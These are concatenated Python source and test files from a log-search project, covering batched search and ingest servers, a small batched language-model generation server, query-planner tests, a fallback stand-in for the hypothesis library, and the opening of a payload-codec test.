    batch the planning phase; others probe per atom), so the server works
    uniformly across every registered store class.

    Thread model: ``submit()`` may be called from any number of client
    threads; ``queue.Queue(max_queue)`` provides the bounded-queue
    backpressure (a full queue blocks, or raises ``queue.Full`` when a
    ``timeout`` is given).  ``workers`` sizes the PROCESS-WIDE shared search
    pool (``repro.logstore.configure_search_pool``) — it is an explicit
    opt-in and affects every store in the process, so leave it ``None``
    unless this server owns the process's serving configuration.  Execution happens either in the background drain
    thread (``start()``/``stop()``, clients then block in ``result()``) or
    inline via the legacy single-threaded ``run()``/``run_detailed()``.
    Every drained batch searches a fresh store snapshot, so serving stays
    correct while writers keep ingesting into the same store.

    >>> from repro.logstore import create_store
    >>> from repro.core.querylang import Contains
    >>> st = create_store("scan")
    >>> st.ingest("ERROR: boom", "web")
    >>> st.finish()
    >>> srv = SearchServer(st, max_batch=4)
    >>> rid = srv.submit(Contains("boom"))
    >>> srv.run()[rid]                        # legacy inline drain
    ['ERROR: boom']
    >>> with srv.start():                     # background drain loop
    ...     srv.result(srv.submit("boom"), timeout=5.0).lines
    ['ERROR: boom']
    """

    def __init__(
        self,
        store,
        *,
        max_batch: int = 32,
        max_queue: int = 1024,
        workers: int | None = None,
    ) -> None:
        if workers is not None:
            from ..logstore import configure_search_pool

            configure_search_pool(workers)
        self.store = store
        self.max_batch = max_batch
        self.max_queue = max_queue
        self._queue: queue_mod.Queue[SearchRequest] = queue_mod.Queue(maxsize=max_queue)
        self._lock = threading.Lock()
        self._events: dict[int, threading.Event] = {}
        self._results: dict[int, SearchResult] = {}
        self._ids = itertools.count()
        self._thread: threading.Thread | None = None
        self._stopping = threading.Event()
        self.n_planned_batches = 0
        self.n_requests = 0
        self.n_fallback_scans = 0

    @classmethod
    def from_directory(
        cls, path, *, max_batch: int = 32, workers: int | None = None
    ) -> "SearchServer":
        """Boot a server from a persisted store directory (docs/persistence.md).

        Opening is zero-parse — sealed sketches come back as mmaps and batch
        payloads stay compressed on disk until a query post-filters them — so
        serving a multi-GB store starts in milliseconds.
        """
        from ..logstore import open_store

        return cls(open_store(path), max_batch=max_batch, workers=workers)

    # -- client surface (thread-safe) ------------------------------------------

    def submit(
        self, query: Query | str, *, contains: bool = True, timeout: float | None = None
    ) -> int:
        """Enqueue a structured query (or a bare term — ``contains`` picks the
        legacy Contains/Term semantics for strings).

        With the background drain loop running, a full queue blocks the
        submitter (backpressure); with ``timeout``, raises ``queue.Full``
        instead of blocking past it.  Without the loop (legacy synchronous
        use) a full queue drains inline — the pre-concurrency queue was
        unbounded, so blocking here would deadlock old callers.
        """
        if isinstance(query, str):
            query = Contains(query) if contains else Term(query)
        req = SearchRequest(next(self._ids), query)
        ev = threading.Event()
        with self._lock:
            self._events[req.request_id] = ev
        try:
            if self._thread is None:
                try:
                    self._queue.put_nowait(req)
                except queue_mod.Full:
                    self._drain_pending()  # results wait in _results for run_detailed
                    self._queue.put_nowait(req)
            else:
                self._queue.put(req, timeout=timeout)
        except queue_mod.Full:
            with self._lock:
                self._events.pop(req.request_id, None)
            raise
        return req.request_id

    def result(self, request_id: int, timeout: float | None = None) -> SearchResult:
        """Wait for one submitted request and return (and forget) its result.

        A timed-out request is *abandoned*: its bookkeeping is dropped and a
        late execution discards the result instead of leaking it.  If the
        drained batch itself failed, the execution error re-raises here.
        """
        with self._lock:
            ev = self._events.get(request_id)
        if ev is None:
            raise KeyError(f"unknown or already-collected request {request_id}")
        done = ev.wait(timeout)
        with self._lock:
            if not done and not ev.is_set():  # lost the race for good: abandon
                self._events.pop(request_id, None)
                self._results.pop(request_id, None)
                raise TimeoutError(f"request {request_id} not served within {timeout}s")
            self._events.pop(request_id, None)
            out = self._results.pop(request_id)
        if isinstance(out, BaseException):
            raise out
        return out

    @property
    def pending(self) -> int:
        """Requests queued but not yet executed (approximate, by nature)."""
        return self._queue.qsize()

    # -- background drain loop ----------------------------------------------------

    def start(self) -> "SearchServer":
        """Start the background drain thread (idempotent)."""
        if self._thread is None:
            self._stopping.clear()
            self._thread = threading.Thread(
                target=self._drain_loop, name="search-server-drain", daemon=True
            )
            self._thread.start()
        return self

    def stop(self) -> None:
        """Stop the drain thread; already-queued requests are still served."""
        if self._thread is None:
            return
        self._stopping.set()
        self._thread.join()
        self._thread = None
        self._drain_pending()  # nothing a client waits on may be left stuck

    def __enter__(self) -> "SearchServer":
        return self.start()

    def __exit__(self, *exc) -> None:
        self.stop()

    def _drain_loop(self) -> None:
        while not self._stopping.is_set():
            batch = self._take_batch(block=True)
            if batch:
                self._execute(batch)

    def _drain_pending(self) -> None:
        while True:
            batch = self._take_batch(block=False)
            if not batch:
                return
            self._execute(batch)

    def _take_batch(self, *, block: bool) -> list[SearchRequest]:
        batch: list[SearchRequest] = []
        try:
            first = (
                self._queue.get(timeout=0.05) if block else self._queue.get_nowait()
            )
        except queue_mod.Empty:
            return batch
        batch.append(first)
        while len(batch) < self.max_batch:
            try:
                batch.append(self._queue.get_nowait())
            except queue_mod.Empty:
                break
        return batch

    def _execute(self, batch: list[SearchRequest]) -> None:
        # one snapshot per drained batch: lock-free reads, immune to
        # concurrent ingest/rotation/compaction on the underlying store.
        # A failing batch must NOT kill the drain thread or strand waiters:
        # the error is delivered to every affected client via result().
        try:
            view = self.store.snapshot()
            outs: list = view.search_many([r.query for r in batch])
        except BaseException as e:
            outs = [e] * len(batch)
        with self._lock:
            self.n_planned_batches += 1
            for r, res in zip(batch, outs):
                self.n_requests += 1
                if isinstance(res, SearchResult) and res.fallback_scan:
                    self.n_fallback_scans += 1
                ev = self._events.get(r.request_id)
                if ev is None:
                    continue  # abandoned (result() timed out) — drop, don't leak
                self._results[r.request_id] = res
                ev.set()

    # -- legacy synchronous surface -------------------------------------------------

    def run(self) -> dict[int, list[str]]:
        """Drain the queue inline; returns {request_id: matching lines}."""
        return {rid: r.lines for rid, r in self.run_detailed().items()}

    def run_detailed(self) -> dict[int, SearchResult]:
        """Drain the queue inline; returns {request_id: SearchResult}.

        Single-threaded compatibility path — refuses to run while the
        background drain loop owns the queue (use :meth:`result` then).
        """
        if self._thread is not None:
            raise RuntimeError(
                "background drain loop is running — collect with result(rid)"
            )
        self._drain_pending()
        results: dict[int, SearchResult] = {}
        with self._lock:
            # everything completed and uncollected — including batches a full
            # queue forced submit() to drain inline before this call
            done = [rid for rid, ev in self._events.items() if ev.is_set()]
            for rid in done:
                self._events.pop(rid)
                results[rid] = self._results.pop(rid)
        for res in results.values():
            if isinstance(res, BaseException):
                raise res  # the synchronous path propagates, as it always did
        return results


class IngestServer:
    """Queue-then-batch ingest over a live :class:`~repro.logstore.LogStore`.

    The write-side twin of :class:`SearchServer`: client threads ``submit()``
    lines into a bounded queue (full queue blocks — backpressure), a
    background drain thread pulls up to ``max_batch`` queued lines and feeds
    them through the store's group-committed ``ingest_many`` — one WAL frame +
    one fsync + one vectorized tokenize/fingerprint pass per drained batch
    instead of per line.  ``stop()`` drains whatever is queued before
    returning, so no accepted line is lost on shutdown.  Safe alongside a
    :class:`SearchServer` over the same store: searches run on snapshots.

    >>> from repro.logstore import create_store
    >>> st = create_store("scan")
    >>> with IngestServer(st) as ing:
    ...     ing.submit("ERROR: boom", "web")
    >>> st.finish()
    >>> st.search("boom").lines
    ['ERROR: boom']
    """

    def __init__(self, store, *, max_batch: int = 4096, max_queue: int = 65536) -> None:
        self.store = store
        self.max_batch = max_batch
        self._queue: "queue_mod.Queue[tuple[str, str]]" = queue_mod.Queue(maxsize=max_queue)
        self._thread: threading.Thread | None = None
        self._stopping = threading.Event()
        self._error: BaseException | None = None
        self.n_lines = 0
        self.n_batches = 0

    def submit(self, line: str, source: str = "", *, timeout: float | None = None) -> None:
        """Enqueue one line (blocks on a full queue; ``queue.Full`` past
        ``timeout``).  Raises the drain thread's error if ingest failed."""
        if self._error is not None:
            raise self._error
        self._queue.put((line, source), timeout=timeout)

    @property
    def pending(self) -> int:
        """Lines queued but not yet ingested (approximate, by nature)."""
        return self._queue.qsize()

    def start(self) -> "IngestServer":
        """Start the background drain thread (idempotent)."""
        if self._thread is None:
            self._stopping.clear()
            self._thread = threading.Thread(
                target=self._drain_loop, name="ingest-server-drain", daemon=True
            )
            self._thread.start()
        return self

    def stop(self) -> None:
        """Stop the drain thread after draining everything queued."""
        if self._thread is None:
            return
        self._stopping.set()
        self._thread.join()
        self._thread = None
        # the loop may have exited with lines still queued — drain them all
        while self._error is None and not self._queue.empty():
            self._drain_once(block=False)

    def __enter__(self) -> "IngestServer":
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def _drain_loop(self) -> None:
        while not self._stopping.is_set():
            self._drain_once(block=True)

    def _drain_once(self, *, block: bool) -> None:
        lines: list[str] = []
        sources: list[str] = []
        try:
            first = self._queue.get(timeout=0.05) if block else self._queue.get_nowait()
        except queue_mod.Empty:
            return
        lines.append(first[0])
        sources.append(first[1])
        while len(lines) < self.max_batch:
            try:
                nxt = self._queue.get_nowait()
            except queue_mod.Empty:
                break
            lines.append(nxt[0])
            sources.append(nxt[1])
        try:
            self.store.ingest_many(lines, sources)
        except BaseException as e:  # surface on the next submit(), don't die silent
            self._error = e
            self._stopping.set()
            return
        self.n_lines += len(lines)
        self.n_batches += 1


@dataclass
class GenRequest:
    request_id: int
    prompt: np.ndarray  # int32 [S]
    max_new_tokens: int = 16
    generated: list[int] = field(default_factory=list)
    done: bool = False


class LMServer:
    """Single-model batched generation (greedy)."""

    def __init__(self, params, cfg: LMConfig, *, max_batch: int = 8, max_seq: int = 256):
        self.params = params
        self.cfg = cfg
        self.max_batch = max_batch
        self.max_seq = max_seq
        self._prefill = jax.jit(partial(self._prefill_impl, cfg=cfg, max_seq=max_seq))
        self._decode = jax.jit(partial(self._decode_impl, cfg=cfg))
        self.queue: list[GenRequest] = []
        self._next_id = 0

    @staticmethod
    def _prefill_impl(params, tokens, *, cfg, max_seq):
        return prefill(params, tokens, cfg, max_seq=max_seq)

    @staticmethod
    def _decode_impl(params, cache, tokens, *, cfg):
        return decode_step(params, cache, tokens, cfg)

    def submit(self, prompt: np.ndarray, max_new_tokens: int = 16) -> int:
        rid = self._next_id
        self._next_id += 1
        self.queue.append(GenRequest(rid, np.asarray(prompt, np.int32), max_new_tokens))
        return rid

    def run(self) -> dict[int, list[int]]:
        """Drain the queue; returns {request_id: generated tokens}."""
        results: dict[int, list[int]] = {}
        while self.queue:
            batch = self.queue[: self.max_batch]
            self.queue = self.queue[self.max_batch :]
            # pad prompts to a common length (left-padding keeps last token hot)
            plen = max(len(r.prompt) for r in batch)
            toks = np.zeros((len(batch), plen), np.int32)
            for i, r in enumerate(batch):
                toks[i, plen - len(r.prompt) :] = r.prompt
            logits, cache = self._prefill(self.params, jnp.asarray(toks))
            cur = jnp.argmax(logits, axis=-1)
            steps = max(r.max_new_tokens for r in batch)
            for _ in range(steps):
                for i, r in enumerate(batch):
                    if not r.done:
                        r.generated.append(int(cur[i]))
                        if len(r.generated) >= r.max_new_tokens:
                            r.done = True
                if all(r.done for r in batch):
                    break
                logits, cache = self._decode(self.params, cache, cur)
                cur = jnp.argmax(logits, axis=-1)
            for r in batch:
                results[r.request_id] = r.generated
        return results
