"""Batched query planner (core.query.execute_queries) + serve wiring."""

import numpy as np
import pytest

from repro.core import (
    CoprSketch,
    IntersectConsumer,
    PostingsConsumer,
    SketchConfig,
    UnionConsumer,
    execute_queries,
    execute_query,
    fingerprint32,
)


class RecordingConsumer(PostingsConsumer):
    def __init__(self):
        self.accepted: list[list[int]] = []

    def accept(self, postings):
        self.accepted.append(postings.tolist())


@pytest.fixture(scope="module")
def sealed():
    """A sketch with shared posting lists and a known layout."""
    sk = CoprSketch(SketchConfig(max_postings=64))
    sk.add_tokens(["alpha"], 1)
    sk.add_tokens(["alpha", "beta", "gamma"], 2)
    sk.add_tokens(["beta"], 3)
    for p in (4, 5, 6):
        sk.add_tokens(["common1", "common2"], p)  # two tokens, one shared list
    return sk, sk.seal_reader()


QUERIES = [
    ["alpha", "beta"],
    ["alpha"],
    ["common1", "common2"],  # same posting list twice → one accept
    ["beta", "never-seen-xyz"],
    [],
    ["gamma", "common1"],
]


@pytest.mark.parametrize("which", ["mutable", "immutable"])
@pytest.mark.parametrize("factory", [IntersectConsumer, UnionConsumer])
def test_batch_matches_sequential(sealed, which, factory):
    """execute_queries(qs) must equal N sequential execute_query calls."""
    sk, reader = sealed
    target = sk.mutable if which == "mutable" else reader
    batched = execute_queries(target, QUERIES, factory)
    for tokens, got in zip(QUERIES, batched):
        want = execute_query(target, tokens, factory())
        assert type(got) is type(want)
        assert got.result == want.result, tokens


def test_unique_rank_decoded_once_across_batch(sealed):
    """The planner's contract: each unique posting list decodes exactly once
    for the whole batch, however many queries reference it."""
    _, reader = sealed
    decoded_ranks: list[int] = []
    orig = reader.decode_list

    def counting(rank):
        decoded_ranks.append(rank)
        return orig(rank)

    reader.decode_list = counting
    try:
        overlapping = [["alpha", "beta"], ["alpha", "gamma"], ["beta", "gamma"], ["alpha"]]
        execute_queries(reader, overlapping, UnionConsumer)
    finally:
        del reader.decode_list
    assert len(decoded_ranks) == len(set(decoded_ranks))  # no repeat decodes
    assert len(decoded_ranks) == 3  # lists of alpha / beta / gamma


def test_early_termination_skips_all_decodes(sealed):
    """An unknown token empties the AND in the probe phase — nothing decodes."""
    _, reader = sealed
    n_decodes = 0
    orig = reader.decode_list

    def counting(rank):
        nonlocal n_decodes
        n_decodes += 1
        return orig(rank)

    reader.decode_list = counting
    try:
        (c,) = execute_queries(reader, [["never-seen-xyz", "alpha"]], IntersectConsumer)
    finally:
        del reader.decode_list
    assert c.result == set()
    assert n_decodes == 0


def test_empty_token_list_leaves_consumer_untouched(sealed):
    """Empty query = no evidence: consumers see no postings (store layers map
    this to a full scan; the planner must not fabricate an empty result)."""
    sk, reader = sealed
    for target in (sk.mutable, reader):
        (c,) = execute_queries(target, [[]], IntersectConsumer)
        assert c.result is None
        (c,) = execute_queries(target, [[]], RecordingConsumer)
        assert c.accepted == []


def test_duplicate_list_single_accept(sealed):
    """Tokens sharing one posting list yield ONE accept per query (dedup)."""
    _, reader = sealed
    (c,) = execute_queries(reader, [["common1", "common2"]], RecordingConsumer)
    assert len(c.accepted) == 1
    assert c.accepted[0] == [4, 5, 6]


class TestUnionPath:
    """OR semantics through the batched planner (UnionConsumer)."""

    def test_batched_or_matches_query_or(self, sealed):
        from repro.core import query_or

        sk, reader = sealed
        queries = [["alpha", "beta"], ["gamma"], ["never-seen-xyz"],
                   ["common1", "alpha"], []]
        for target in (sk.mutable, reader):
            batched = execute_queries(target, queries, UnionConsumer)
            for toks, c in zip(queries, batched):
                want = set(query_or(target, toks).tolist())
                assert c.result == want, toks

    def test_union_never_early_terminates(self, sealed):
        """An unknown token contributes an empty list but must not stop the
        union — remaining tokens still accumulate."""
        _, reader = sealed
        (c,) = execute_queries(reader, [["never-seen-xyz", "alpha", "beta"]],
                               UnionConsumer)
        assert c.result == {1, 2, 3}

    def test_union_shares_decodes_across_batch(self, sealed):
        _, reader = sealed
        decoded: list[int] = []
        orig = reader.decode_list

        def counting(rank):
            decoded.append(rank)
            return orig(rank)

        reader.decode_list = counting
        try:
            execute_queries(
                reader,
                [["alpha", "beta"], ["beta", "gamma"], ["alpha", "gamma"]],
                UnionConsumer,
            )
        finally:
            del reader.decode_list
        assert len(decoded) == len(set(decoded)) == 3


class TestMixedBatches:
    """AND and OR consumers coexisting in one planner batch: early
    termination of one query must never starve or corrupt another."""

    @staticmethod
    def _mixed_factory(kinds):
        """consumer_factory is called once per query, in order — hand out a
        per-query consumer type (the store pipeline plans heterogeneous
        boolean queries through exactly this mechanism)."""
        it = iter(kinds)
        return lambda: next(it)()

    @pytest.mark.parametrize("which", ["mutable", "immutable"])
    def test_mixed_and_or_results_match_sequential(self, sealed, which):
        sk, reader = sealed
        target = sk.mutable if which == "mutable" else reader
        queries = [
            ["alpha", "never-seen-xyz"],   # AND → empty, early-terminates
            ["alpha", "beta"],             # OR  → {1, 2, 3}
            ["alpha", "beta"],             # AND → {2}
            ["never-seen-xyz", "gamma"],   # OR  → {2} despite unknown token
        ]
        kinds = [IntersectConsumer, UnionConsumer, IntersectConsumer, UnionConsumer]
        got = execute_queries(target, queries, self._mixed_factory(kinds))
        want = [execute_query(target, q, k()) for q, k in zip(queries, kinds)]
        for g, w, q in zip(got, want, queries):
            assert type(g) is type(w)
            assert g.result == w.result, q
        assert got[0].result == set()
        assert got[1].result == {1, 2, 3}
        assert got[2].result == {2}
        assert got[3].result == {2}

    def test_early_terminated_and_still_lets_or_decode(self, sealed):
        """The AND stops before decoding 'alpha'; the OR in the same batch
        must still decode and see it (stop is per-consumer, decode cache is
        batch-wide)."""
        _, reader = sealed
        decoded: list[int] = []
        orig = reader.decode_list

        def counting(rank):
            decoded.append(rank)
            return orig(rank)

        reader.decode_list = counting
        try:
            got = execute_queries(
                reader,
                [["never-seen-xyz", "alpha"], ["alpha"]],
                self._mixed_factory([IntersectConsumer, UnionConsumer]),
            )
        finally:
            del reader.decode_list
        assert got[0].result == set()   # AND emptied in the probe phase
        assert got[1].result == {1, 2}  # OR still decoded alpha's list
        assert len(decoded) == 1        # exactly one decode for the batch


def test_fingerprint_and_string_tokens_equivalent(sealed):
    _, reader = sealed
    a = execute_queries(reader, [["alpha", "beta"]], IntersectConsumer)[0]
    fps = [fingerprint32("alpha"), fingerprint32("beta")]
    b = execute_queries(reader, [np.asarray(fps, np.uint32)], IntersectConsumer)[0]
    assert a.result == b.result == {2}


class TestSearchServer:
    """serve.SearchServer drains its queue through the batched planner."""

    @pytest.fixture(scope="class")
    def corpus_stores(self):
        from repro.data import make_dataset
        from repro.logstore import CoprStore, ScanStore, ShardedCoprStore

        ds = make_dataset("small", 1500, seed=23)
        kw = dict(lines_per_batch=64, max_batches=256)
        stores = {
            "copr": CoprStore(**kw),
            "sharded": ShardedCoprStore(n_shards=2, lines_per_segment=200, **kw),
            "scan": ScanStore(**kw),
        }
        for st in stores.values():
            for line, src in zip(ds.lines, ds.sources):
                st.ingest(line, src)
            st.finish()
        return ds, stores

    @pytest.mark.parametrize("name", ["copr", "sharded", "scan"])
    def test_results_match_direct_queries(self, corpus_stores, name):
        from repro.serve import SearchServer

        _, stores = corpus_stores
        st = stores[name]
        server = SearchServer(st, max_batch=4)
        terms = ["onnection", "rror", "10.", "qzjxkwvpqzjxkwvp", "start"]
        rids = {server.submit(t, contains=True): t for t in terms}
        results = server.run()
        assert set(results) == set(rids)
        for rid, term in rids.items():
            assert sorted(results[rid]) == sorted(st.query_contains(term)), term
        if name != "scan":
            assert server.n_planned_batches >= 1  # went through the planner

    def test_planned_equals_scan_truth(self, corpus_stores):
        from repro.serve import SearchServer

        _, stores = corpus_stores
        scan = stores["scan"]
        for name in ("copr", "sharded"):
            server = SearchServer(stores[name], max_batch=8)
            rid = server.submit("onnection")
            got = server.run()[rid]
            assert sorted(got) == sorted(scan.query_contains("onnection"))
