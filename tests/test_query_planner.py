"""Batched query planner (core.query.execute_queries) + serve wiring."""

import numpy as np
import pytest

from repro.core import (
    CoprSketch,
    IntersectConsumer,
    PostingsConsumer,
    SketchConfig,
    UnionConsumer,
    execute_queries,
    execute_query,
    fingerprint32,
)


class RecordingConsumer(PostingsConsumer):
    def __init__(self):
        self.accepted: list[list[int]] = []

    def accept(self, postings):
        self.accepted.append(postings.tolist())


@pytest.fixture(scope="module")
def sealed():
    """A sketch with shared posting lists and a known layout."""
    sk = CoprSketch(SketchConfig(max_postings=64))
    sk.add_tokens(["alpha"], 1)
    sk.add_tokens(["alpha", "beta", "gamma"], 2)
    sk.add_tokens(["beta"], 3)
    for p in (4, 5, 6):
        sk.add_tokens(["common1", "common2"], p)  # two tokens, one shared list
    return sk, sk.seal_reader()


QUERIES = [
    ["alpha", "beta"],
    ["alpha"],
    ["common1", "common2"],  # same posting list twice → one accept
    ["beta", "never-seen-xyz"],
    [],
    ["gamma", "common1"],
]


@pytest.mark.parametrize("which", ["mutable", "immutable"])
@pytest.mark.parametrize("factory", [IntersectConsumer, UnionConsumer])
def test_batch_matches_sequential(sealed, which, factory):
    """execute_queries(qs) must equal N sequential execute_query calls."""
    sk, reader = sealed
    target = sk.mutable if which == "mutable" else reader
    batched = execute_queries(target, QUERIES, factory)
    for tokens, got in zip(QUERIES, batched):
        want = execute_query(target, tokens, factory())
        assert type(got) is type(want)
        assert got.result == want.result, tokens


def test_unique_rank_decoded_once_across_batch(sealed):
    """The planner's contract: each unique posting list decodes exactly once
    for the whole batch, however many queries reference it."""
    _, reader = sealed
    decoded_ranks: list[int] = []
    orig = reader.decode_list

    def counting(rank):
        decoded_ranks.append(rank)
        return orig(rank)

    reader.decode_list = counting
    try:
        overlapping = [["alpha", "beta"], ["alpha", "gamma"], ["beta", "gamma"], ["alpha"]]
        execute_queries(reader, overlapping, UnionConsumer)
    finally:
        del reader.decode_list
    assert len(decoded_ranks) == len(set(decoded_ranks))  # no repeat decodes
    assert len(decoded_ranks) == 3  # lists of alpha / beta / gamma


def test_early_termination_skips_all_decodes(sealed):
    """An unknown token empties the AND in the probe phase — nothing decodes."""
    _, reader = sealed
    n_decodes = 0
    orig = reader.decode_list

    def counting(rank):
        nonlocal n_decodes
        n_decodes += 1
        return orig(rank)

    reader.decode_list = counting
    try:
        (c,) = execute_queries(reader, [["never-seen-xyz", "alpha"]], IntersectConsumer)
    finally:
        del reader.decode_list
    assert c.result == set()
    assert n_decodes == 0


def test_empty_token_list_leaves_consumer_untouched(sealed):
    """Empty query = no evidence: consumers see no postings (store layers map
    this to a full scan; the planner must not fabricate an empty result)."""
    sk, reader = sealed
    for target in (sk.mutable, reader):
        (c,) = execute_queries(target, [[]], IntersectConsumer)
        assert c.result is None
        (c,) = execute_queries(target, [[]], RecordingConsumer)
        assert c.accepted == []


def test_duplicate_list_single_accept(sealed):
    """Tokens sharing one posting list yield ONE accept per query (dedup)."""
    _, reader = sealed
    (c,) = execute_queries(reader, [["common1", "common2"]], RecordingConsumer)
    assert len(c.accepted) == 1
    assert c.accepted[0] == [4, 5, 6]


def test_fingerprint_and_string_tokens_equivalent(sealed):
    _, reader = sealed
    a = execute_queries(reader, [["alpha", "beta"]], IntersectConsumer)[0]
    fps = [fingerprint32("alpha"), fingerprint32("beta")]
    b = execute_queries(reader, [np.asarray(fps, np.uint32)], IntersectConsumer)[0]
    assert a.result == b.result == {2}


class TestSearchServer:
    """serve.SearchServer drains its queue through the batched planner."""

    @pytest.fixture(scope="class")
    def corpus_stores(self):
        from repro.data import make_dataset
        from repro.logstore import CoprStore, ScanStore, ShardedCoprStore

        ds = make_dataset("small", 1500, seed=23)
        kw = dict(lines_per_batch=64, max_batches=256)
        stores = {
            "copr": CoprStore(**kw),
            "sharded": ShardedCoprStore(n_shards=2, lines_per_segment=200, **kw),
            "scan": ScanStore(**kw),
        }
        for st in stores.values():
            for line, src in zip(ds.lines, ds.sources):
                st.ingest(line, src)
            st.finish()
        return ds, stores

    @pytest.mark.parametrize("name", ["copr", "sharded", "scan"])
    def test_results_match_direct_queries(self, corpus_stores, name):
        from repro.serve import SearchServer

        _, stores = corpus_stores
        st = stores[name]
        server = SearchServer(st, max_batch=4)
        terms = ["onnection", "rror", "10.", "qzjxkwvpqzjxkwvp", "start"]
        rids = {server.submit(t, contains=True): t for t in terms}
        results = server.run()
        assert set(results) == set(rids)
        for rid, term in rids.items():
            assert sorted(results[rid]) == sorted(st.query_contains(term)), term
        if name != "scan":
            assert server.n_planned_batches >= 1  # went through the planner

    def test_planned_equals_scan_truth(self, corpus_stores):
        from repro.serve import SearchServer

        _, stores = corpus_stores
        scan = stores["scan"]
        for name in ("copr", "sharded"):
            server = SearchServer(stores[name], max_batch=8)
            rid = server.submit("onnection")
            got = server.run()[rid]
            assert sorted(got) == sorted(scan.query_contains("onnection"))
