"""Tiny stand-in for ``hypothesis`` when it isn't installed.

Implements just enough of the ``given``/``settings``/``strategies`` surface
used by this suite: deterministic seeded random example generation, with the
first example minimised (smallest size, lowest bounds) so the usual edge
cases (empty set, single element) are always exercised.  When the real
``hypothesis`` is available the test modules import it instead — this module
is the fallback, not a replacement.
"""

from __future__ import annotations

import inspect
import random

_DEFAULT_EXAMPLES = 25
_MAX_EXAMPLES_CAP = 60  # keep the fallback suite fast; real hypothesis shrinks


class _Strategy:
    def example(self, rng: random.Random, minimal: bool = False):
        raise NotImplementedError


class _Integers(_Strategy):
    def __init__(self, min_value=0, max_value=1 << 32):
        self.min_value = min_value
        self.max_value = max_value

    def example(self, rng, minimal=False):
        if minimal:
            return self.min_value
        return rng.randint(self.min_value, self.max_value)


class _Lists(_Strategy):
    def __init__(self, elements, *, min_size=0, max_size=10, unique=False):
        self.elements = elements
        self.min_size = min_size
        self.max_size = max_size
        self.unique = unique

    def example(self, rng, minimal=False):
        size = self.min_size if minimal else rng.randint(self.min_size, self.max_size)
        if not self.unique:
            return [self.elements.example(rng, minimal) for _ in range(size)]
        seen, out = set(), []
        attempts = 0
        while len(out) < size and attempts < size * 50 + 100:
            v = self.elements.example(rng)
            attempts += 1
            if v not in seen:
                seen.add(v)
                out.append(v)
        return out


class _Sets(_Strategy):
    def __init__(self, elements, *, min_size=0, max_size=10):
        self._lists = _Lists(elements, min_size=min_size, max_size=max_size, unique=True)

    def example(self, rng, minimal=False):
        return set(self._lists.example(rng, minimal))


class _Text(_Strategy):
    def __init__(self, alphabet=None, *, min_size=0, max_size=10):
        # default alphabet: printable ASCII — enough for the fallback; tests
        # that care about specific hazards pass an explicit alphabet
        self.alphabet = alphabet or "".join(chr(c) for c in range(32, 127))
        self.min_size = min_size
        self.max_size = max_size

    def example(self, rng, minimal=False):
        size = self.min_size if minimal else rng.randint(self.min_size, self.max_size)
        return "".join(rng.choice(self.alphabet) for _ in range(size))


class _Tuples(_Strategy):
    def __init__(self, *elements):
        self.elements = elements

    def example(self, rng, minimal=False):
        return tuple(e.example(rng, minimal) for e in self.elements)


class strategies:  # noqa: N801 - mimics the hypothesis module name ``st``
    @staticmethod
    def integers(min_value=0, max_value=1 << 32):
        return _Integers(min_value, max_value)

    @staticmethod
    def lists(elements, *, min_size=0, max_size=10, unique=False):
        return _Lists(elements, min_size=min_size, max_size=max_size, unique=unique)

    @staticmethod
    def sets(elements, *, min_size=0, max_size=10):
        return _Sets(elements, min_size=min_size, max_size=max_size)

    @staticmethod
    def text(alphabet=None, *, min_size=0, max_size=10):
        return _Text(alphabet, min_size=min_size, max_size=max_size)

    @staticmethod
    def tuples(*elements):
        return _Tuples(*elements)


def settings(*, max_examples=_DEFAULT_EXAMPLES, deadline=None, **_ignored):
    def deco(f):
        f._fallback_max_examples = max_examples
        return f

    return deco


def given(*strats):
    """Run the test over N deterministic random examples.

    Strategies bind to the function's trailing positional parameters (after
    ``self`` for methods), matching hypothesis' positional convention.
    """

    def deco(f):
        n_examples = min(
            getattr(f, "_fallback_max_examples", _DEFAULT_EXAMPLES), _MAX_EXAMPLES_CAP
        )
        sig = inspect.signature(f)
        params = list(sig.parameters.values())
        outer_params = params[: len(params) - len(strats)]

        def wrapper(*args, **kwargs):
            rng = random.Random(f.__qualname__)
            for i in range(n_examples):
                drawn = [s.example(rng, minimal=(i == 0)) for s in strats]
                f(*args, *drawn, **kwargs)

        wrapper.__name__ = f.__name__
        wrapper.__qualname__ = f.__qualname__
        wrapper.__doc__ = f.__doc__
        wrapper.__module__ = f.__module__
        wrapper.__signature__ = sig.replace(parameters=outer_params)
        return wrapper

    return deco
