"""Payload codec (ISSUE 9): template mining, round-trips, crash safety.

Acceptance: the `raw` codec reproduces the pre-refactor sealed artifacts
byte-for-byte (golden fixture `tests/fixtures/raw_v1_store`); the `template`
codec round-trips ingest → finish → close → open with `SearchResult.lines`
byte-identical to a raw-codec store for every registered store kind; a WAL
torn mid-batch with the template codec active recovers to exactly the
surviving prefix (templates apply only at seal — the WAL stays raw lines).
"""

import json
import shutil
from pathlib import Path

import pytest

from repro.core.querylang import And, Contains, Not, Or, Source, Term, matches_line
from repro.data import make_dataset
from repro.eval.workloads import templated_dataset
from repro.logstore import (
    STORE_CLASSES,
    ScanStore,
    ShardedCoprStore,
    WriteAheadLog,
    create_store,
    open_store,
)
from repro.logstore.templates import (
    TemplateCodec,
    constant_verdicts,
    decode_dict,
    decode_ids,
    make_codec,
    reconstruct_blob,
)

FIXTURE = Path(__file__).parent / "fixtures" / "raw_v1_store"

KW = dict(lines_per_batch=32, max_batches=512)

#: adversarial tail: non-ASCII (exact-path fallback), Unicode lowercase traps
#: (U+212A KELVIN SIGN folds to ASCII 'k'), template-like near-misses
WEIRD_LINES = [
    ("ERROR: überweisung failed für user müller", "src-00000"),
    ("INFO: deploy Kelvin service finished", "src-00000"),
    ("WARN: 混合 content 123 with spaces", "src-00001"),
    ("INFO: Connection to host 10.0.0.1 established", "src-00001"),
]


def _store_kw(name):
    kw = dict(KW)
    if name == "csc":
        kw["m_bits"] = 1 << 18
    if name == "sharded":
        kw.update(n_shards=2, lines_per_segment=300)
    return kw


def _queries(corpus):
    return [
        Contains("error"),                      # constant-only, common
        Contains("connection to host"),         # spans several constant pieces
        Term("established"),                    # constant-only Term
        Term("kelvin"),                         # U+212A trap: must not match ASCII-fold
        Contains("10."),                        # variable-touching (IP bytes)
        And(Contains("error"), Not(Term("debug"))),
        Or(Term("terminating"), Contains("qzjxkwvpqzjxkwvp")),
        And(Contains("connection"), Source(corpus.sources[5])),
        Not(Contains("error")),
    ]


@pytest.fixture(scope="module")
def corpus():
    ds = make_dataset("small", 1200, seed=23)
    ds.lines.extend(ln for ln, _ in WEIRD_LINES)
    ds.sources.extend(src for _, src in WEIRD_LINES)
    return ds


def _build(kind, path, corpus, codec):
